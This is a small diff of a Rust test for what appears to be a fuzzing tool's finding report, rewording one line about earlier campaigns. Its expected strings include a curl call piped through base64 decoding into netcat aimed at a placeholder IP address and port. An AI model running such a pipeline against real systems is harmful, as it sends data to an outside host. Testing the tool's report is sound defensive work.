@@ -128,7 +128,7 @@ fn a_campaign_tells_each_finding_the_gravest_first_and_how_to_send_it_again() {
         "Weakness CWE-755",
         "Class of fault WFC 100, HTTP status 500",
         "Confirmed replays of this oracle 95 %",
-        "Known since an earlier campaign",
+        "First found in an earlier campaign",
         "/execsvcscript → 500 it shows here curl -sS",
         "| base64 -d | nc -q 5 192.0.2.7 4055",
         "Replay it oktellspec replay /var/campaign/findings/",
